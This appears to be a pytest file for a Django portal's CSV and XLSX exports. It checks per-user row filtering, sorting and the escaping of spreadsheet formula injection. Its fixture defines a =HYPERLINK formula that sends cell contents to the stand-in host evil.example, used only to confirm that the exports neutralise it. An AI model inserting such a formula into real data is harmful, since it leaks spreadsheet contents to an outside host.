"""Exports of projects, the review queue and findings as CSV and XLSX, from the pages and the API:
read back with the csv module and openpyxl, holding exactly the rows the list shows the user, with
vendor text that a spreadsheet would run as a formula written as inert text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from rest_framework.test import APIClient

from portal.exports import csv_cell
from projects.models import Project
from tests.listing import waiting_submission

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def export_world(world):
    Project.objects.filter(pk=world.project.pk).update(title=EVIL, title_ko="알파 모델")
    world.s_alpha = waiting_submission(project=world.project, vendor_user=world.vendor_user, days_ago=20,
                                       findings=(("high", "open"), ("low", "waived")), note="@SUM(1+1)")
    world.s_beta = waiting_submission(project=world.other_project, vendor_user=world.other_vendor_user, days_ago=2,
                                      findings=(("critical", "open"),))
    world.s_alpha.findings.filter(severity="high").update(title="-2+3 looks like a formula")
    return world


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx(response):
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return openpyxl.load_workbook(io.BytesIO(body)).active


def _column(rows, header: str) -> list:
    index = list(rows[0]).index(header)
    return [row[index] for row in rows[1:]]


def test_csv_cells_starting_like_a_formula_get_an_apostrophe():
    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", EVIL):
        assert csv_cell(value) == "'" + value
    assert csv_cell("Alpha -1") == "Alpha -1" and csv_cell("") == "" and csv_cell(None) == ""
    assert csv_cell(-5) == "-5", "numbers the portal stores are numbers, not vendor text"


def test_project_csv_from_the_page_holds_the_vendors_rows_only_escaped(client, export_world):
    client.force_login(export_world.vendor_user)
    rows = _csv(client.get("/projects/?export=csv"))
    assert rows[0][:4] == ["Id", "Programme", "Code", "Title"]
    assert _column(rows, "Code") == ["alpha"], "vendor A exports its own project, never beta"
    assert _column(rows, "Title") == ["'" + EVIL]
    assert _column(rows, "Korean title") == ["알파 모델"]


def test_project_xlsx_writes_formula_text_as_text(client, export_world):
    client.force_login(export_world.officer)
    sheet = _xlsx(client.get("/projects/?export=xlsx&sort=-code"))
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert _column(rows, "Code") == ["beta", "alpha"], "the list's sort"
    title_cell = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == "alpha")[3]
    assert title_cell.value == EVIL and title_cell.data_type == "s", "a string cell, never a formula"
    assert _column(rows, "Funding (KRW)") == [400000000, 500000000], "numbers stay numbers"


def test_export_carries_the_filters(client, export_world):
    client.force_login(export_world.officer)
    rows = _csv(client.get(f"/projects/?export=csv&reviewer={export_world.reviewer.pk}"))
    assert _column(rows, "Code") == ["alpha"]


def test_queue_exports_with_waiting_time(client, export_world):
    client.force_login(export_world.officer)
    rows = _csv(client.get("/queue/?export=csv&sort=-waiting"))
    assert _column(rows, "Project") == ["alpha", "beta"]
    assert _column(rows, "Days waiting") == ["20", "2"]
    assert _column(rows, "Service level (days)") == ["14", "14"]
    assert _column(rows, "Overdue") == ["yes", "no"]
    assert _column(rows, "Highest open severity") == ["High", "Critical"]
    assert _column(rows, "Note to reviewers") == ["'@SUM(1+1)", ""]
    sheet = _xlsx(client.get("/queue/?export=xlsx&severity=critical"))
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == ["beta"]


def test_findings_page_export_is_for_ministry_staff(client, export_world):
    client.force_login(export_world.officer)
    rows = _csv(client.get("/findings/?export=csv&sort=-severity"))
    assert _column(rows, "Severity") == ["Critical", "High", "Low"]
    assert "'-2+3 looks like a formula" in _column(rows, "Title")
    client.force_login(export_world.vendor_user)
    assert client.get("/findings/?export=csv").status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_api_exports_respect_permissions(export_world, fmt):
    api = APIClient()
    api.force_login(export_world.vendor_user)
    projects = api.get(f"/api/projects/export/?format={fmt}")
    findings = api.get(f"/api/findings/export/?format={fmt}")
    if fmt == "csv":
        assert _column(_csv(projects), "Code") == ["alpha"]
        found = _csv(findings)
    else:
        assert [row[2].value for row in _xlsx(projects).iter_rows(min_row=2)] == ["alpha"]
        found = [[cell.value for cell in row] for row in _xlsx(findings).iter_rows()]
    assert _column(found, "Project") == ["alpha", "alpha"], "only the findings of the vendor's own submissions"
    queue = api.get(f"/api/queue/export/?format={fmt}")
    rows = _csv(queue) if fmt == "csv" else [[c.value for c in r] for r in _xlsx(queue).iter_rows()]
    assert len(rows) == 1, "vendors have no review queue: the header alone"


def test_api_export_takes_the_list_filters(export_world):
    api = APIClient()
    api.force_login(export_world.officer)
    rows = _csv(api.get("/api/findings/export/?format=csv&severity=critical"))
    assert _column(rows, "Project") == ["beta"]
    assert api.get("/api/findings/export/?format=csv&sort=nonsense").status_code == 400


def test_the_schema_documents_the_exports(export_world):
    api = APIClient()
    api.force_login(export_world.officer)
    schema = api.get("/api/schema/?format=json").json()
    for path in ("/api/projects/export/", "/api/queue/export/", "/api/findings/export/"):
        operation = schema["paths"][path]["get"]
        content = operation["responses"]["200"]["content"]
        assert "text/csv" in content
        assert "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" in content
        names = {p["name"] for p in operation["parameters"]}
        assert "format" in names and "sort" in names
    assert "severity" in {p["name"] for p in schema["paths"]["/api/queue/export/"]["get"]["parameters"]}
